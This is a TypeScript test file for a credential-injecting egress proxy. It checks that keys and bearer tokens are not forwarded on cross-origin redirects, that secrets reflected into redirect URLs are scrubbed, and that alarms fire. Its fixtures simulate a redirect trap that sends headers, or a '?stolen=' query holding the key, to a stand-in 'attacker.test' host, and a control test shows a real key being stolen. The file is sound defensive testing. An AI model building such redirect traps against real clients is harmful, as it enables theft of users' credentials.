import { describe, expect, test } from 'vitest';
import { credentialOf, secretOf } from '../../src/credentials/inject/testing/context.ts';
import { programPath, reason } from '../../src/egress/tls/testing/programs.ts';
import type { Credential } from '../../src/policy/credentials/types.ts';
import { openWorld, type World, type WorldOptions } from '../lib/credential-world.ts';

/** A host that redirects every client, and the target of the redirect. */
function trap(injection: Credential['injection'], status: number, more: Partial<WorldOptions> = {}): Promise<World> {
  return openWorld({
    credentials: [credentialOf({ injection })],
    sites: {
      'api.test': ({ url }, response) =>
        void (url.startsWith('/here')
          ? response.end('home')
          : response.writeHead(status, { location: url === '/near' ? '/here' : `https://attacker.test${url}` }).end()),
      'attacker.test': (_, response) => void response.end('stolen'),
    },
    ...more,
  });
}

const key = { kind: 'header', name: 'x-api-key' } as const;
const bearer = { kind: 'bearer' } as const;

/** The arguments: the URL, the name of a header, and its value. */
const clients = {
  'fetch of Node': {
    needs: process.execPath,
    argv: [
      process.execPath,
      '--input-type=module',
      '-e',
      `const [url, name, value] = process.argv.slice(1); const answer = await fetch(url, { headers: { [name]: value } }); process.stdout.write(answer.status + await answer.text());`,
    ],
    forwards: ['x-api-key'],
  },
  'curl -L': {
    needs: 'curl',
    argv: ['sh', '-c', 'curl -sSL -w "%{http_code}" -H "$2: $3" "$1"', 'curl'],
    forwards: ['x-api-key'],
  },
  'curl --location-trusted': {
    needs: 'curl',
    argv: ['sh', '-c', 'curl -sS --location-trusted -w "%{http_code}" -H "$2: $3" "$1"', 'curl'],
    forwards: ['x-api-key', 'authorization'],
  },
  'urllib of Python': {
    needs: 'python3',
    argv: [
      'python3',
      '-c',
      'import sys, urllib.request as r, urllib.error as e\nurl, name, value = sys.argv[1:]\ntry: print(r.urlopen(r.Request(url, headers={name: value})).read().decode())\nexcept e.HTTPError as error: print(error.code, error.read().decode())',
    ],
    forwards: ['x-api-key', 'authorization'],
  },
} as const;

const followed = Object.entries(clients).flatMap(([client, { needs, argv, forwards }]) =>
  forwards.map((header) => ({ client, needs, argv: argv as readonly string[], header })),
);
const present = followed.filter(({ needs }) => needs === process.execPath || programPath(needs) !== undefined);
const absent = [...new Set(followed.filter((each) => !present.includes(each)).map(({ needs }) => reason(needs)))].join(
  '',
);
const said = (header: string, value: string): string => (header === 'authorization' ? `Bearer ${value}` : value);

describe(`a redirect to another origin by a client that keeps its key${absent}`, () => {
  test.each(present)('$client, $header: neither key arrives there, and there is an alarm', async ({ argv, header }) => {
    const world = await trap(header === 'x-api-key' ? key : bearer, 302);
    const phantom = world.context.phantom();
    const { stdout } = await world.run([...argv, 'https://api.test/v1', header, said(header, phantom)]);
    expect(stdout).toContain('403');
    expect(stdout).not.toContain('stolen');
    expect(world.arrived.map(({ host, url }) => host + url)).toEqual(['api.test/v1']);
    expect(world.arrived[0]?.headers[header]).toBe(said(header, secretOf('main')));
    expect(world.context.alarms).toEqual([
      {
        kind: 'phantom-unbound',
        credential: 'main',
        destination: { host: 'attacker.test', port: 443 },
        place: `the header ${header}`,
      },
    ]);
  });

  test.each(present)('$client, $header: control, a real key in the box would be stolen', async ({ argv, header }) => {
    const world = await trap(header === 'x-api-key' ? key : bearer, 302, { watcher: 'nobody' });
    expect((await world.run([...argv, 'https://api.test/v1', header, said(header, 'real-EXAMPLE')])).stdout).toContain(
      'stolen',
    );
    expect(world.arrived[1]).toMatchObject({
      host: 'attacker.test',
      headers: { [header]: said(header, 'real-EXAMPLE') },
    });
  });
});

describe('a redirect', () => {
  test.each([301, 302, 303, 307, 308])('%i to another origin carries neither body nor key', async (status) => {
    const world = await trap(key, status);
    const { stdout } = await world.node(
      `const answer = await fetch('https://api.test/v1', { method: 'POST', body: 'content', headers: { 'x-api-key': '${world.context.phantom()}' } }); process.stdout.write(String(answer.status));`,
    );
    expect(stdout).toBe('403');
    expect(world.arrived.map(({ host }) => host)).toEqual(['api.test']);
  });

  test('within the origin keeps the key', async () => {
    const world = await trap(key, 307);
    expect(
      await world.node(
        `process.stdout.write(await (await fetch('https://api.test/near', { headers: { 'x-api-key': '${world.context.phantom()}' } })).text());`,
      ),
    ).toMatchObject({ stdout: 'home' });
    expect(world.arrived.map(({ url, headers }) => [url, headers['x-api-key']])).toEqual([
      ['/near', secretOf('main')],
      ['/here', secretOf('main')],
    ]);
    expect(world.context.alarms).toEqual([]);
  });

  test('that contains the secret is shown without it', async () => {
    const world = await openWorld({
      credentials: [credentialOf({ injection: key })],
      sites: {
        'api.test': ({ headers }, response) =>
          void response
            .writeHead(302, { location: `https://attacker.test/?stolen=${String(headers['x-api-key'])}` })
            .end(),
        'attacker.test': (_, response) => void response.end('stolen'),
      },
    });
    await world.node(
      `await fetch('https://api.test/', { headers: { 'x-api-key': '${world.context.phantom()}' } }).catch(() => undefined);`,
    );
    expect(
      JSON.stringify(
        world.arrived.filter(({ host }) => host === 'attacker.test').map(({ url, headers }) => [url, headers]),
      ),
    ).not.toContain(secretOf('main'));
    expect(world.context.alarms.map(({ kind }) => kind)).toContain('secret-reflected');
  });

  test('from plain http does not carry a key that may leave only over TLS', async () => {
    const world = await openWorld({
      credentials: [credentialOf({ injection: key, hosts: ['api.test:80', 'api.test:443'] })],
      sites: { 'api.test': (_, response) => void response.end() },
    });
    const { stdout } = await world.node(
      `const answer = await fetch('http://api.test/', { headers: { 'x-api-key': '${world.context.phantom()}' } }); process.stdout.write(answer.status + await answer.text());`,
    );
    expect(stdout).toContain('goes out over TLS only');
    expect(world.arrived).toEqual([]);
  });
});
